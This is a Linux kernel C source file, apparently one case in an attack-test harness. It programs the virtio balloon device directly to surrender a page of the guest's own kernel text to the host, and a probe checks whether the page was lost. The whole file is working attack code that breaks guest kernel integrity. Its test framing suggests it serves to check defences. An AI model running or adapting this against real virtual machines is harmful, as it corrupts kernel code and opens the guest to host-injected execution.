// SPDX-License-Identifier: GPL-2.0-only
/*
 * A page of kernel text given back to the host: the balloon device is told, past
 * any driver, to take it. The kernel then runs whatever the host puts there. The
 * page is inside a function that this guest does not use.
 */
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/pci.h>
#include <linux/virtio_config.h>
#include <linux/virtio_pci.h>
#include <linux/virtio_ring.h>

#include "attack.h"

#define VIRTIO_VENDOR  0x1af4
#define BALLOON_DEVICE 0x1002
#define RING_MAX_BYTES (4 * PAGE_SIZE)

ATTACK_SYMBOL(sock_ops_convert_ctx_access);
static u8 *page_at;
static u64 old_word;

static int inflate(unsigned long bar, void *ring, __le32 *pfn)
{
	struct vring v;

	outb(0, bar + VIRTIO_PCI_STATUS);
	outb(VIRTIO_CONFIG_S_ACKNOWLEDGE | VIRTIO_CONFIG_S_DRIVER, bar + VIRTIO_PCI_STATUS);
	outl(0, bar + VIRTIO_PCI_GUEST_FEATURES);
	outw(0, bar + VIRTIO_PCI_QUEUE_SEL);
	vring_init(&v, inw(bar + VIRTIO_PCI_QUEUE_NUM), ring, PAGE_SIZE);
	if (!v.num || vring_size(v.num, PAGE_SIZE) > RING_MAX_BYTES)
		return -EIO;
	outl(virt_to_phys(ring) >> PAGE_SHIFT, bar + VIRTIO_PCI_QUEUE_PFN);
	outb(VIRTIO_CONFIG_S_ACKNOWLEDGE | VIRTIO_CONFIG_S_DRIVER | VIRTIO_CONFIG_S_DRIVER_OK,
	     bar + VIRTIO_PCI_STATUS);
	v.desc[0] = (struct vring_desc){.addr = virt_to_phys(pfn), .len = sizeof(*pfn)};
	v.avail->ring[0] = 0;
	wmb(); /* the device looks at the ring once the index says so */
	v.avail->idx = 1;
	wmb();
	outw(0, bar + VIRTIO_PCI_QUEUE_NOTIFY);
	for (int i = 0; i < 500 && !READ_ONCE(v.used->idx); i++)
		msleep(10);
	outb(0, bar + VIRTIO_PCI_STATUS);
	return v.used->idx ? 0 : -ETIMEDOUT;
}

static int run(void)
{
	struct pci_dev *balloon = pci_get_device(VIRTIO_VENDOR, BALLOON_DEVICE, NULL);
	void *ring = alloc_pages_exact(RING_MAX_BYTES, GFP_KERNEL | __GFP_ZERO);
	__le32 *pfn = kzalloc(sizeof(*pfn), GFP_KERNEL);
	int r = -ENODEV;

	page_at = (u8 *)PAGE_ALIGN(sock_ops_convert_ctx_access_at);
	old_word = *(u64 *)page_at;
	if (balloon && ring && pfn && !pci_enable_device(balloon)) {
		pci_set_master(balloon);
		*pfn = cpu_to_le32(attack_pa(page_at) >> PAGE_SHIFT);
		r = inflate(pci_resource_start(balloon, 0), ring, pfn);
	}
	kfree(pfn);
	if (ring)
		free_pages_exact(ring, RING_MAX_BYTES);
	pci_dev_put(balloon);
	return r;
}

/* What was on the page is lost. */
static void undo(void)
{
}

static int probe(void)
{
	return old_word && !READ_ONCE(*(u64 *)page_at) ? ATTACK_WORKS : 0;
}

ATTACK(run, undo, probe, "a page of text given to the balloon");
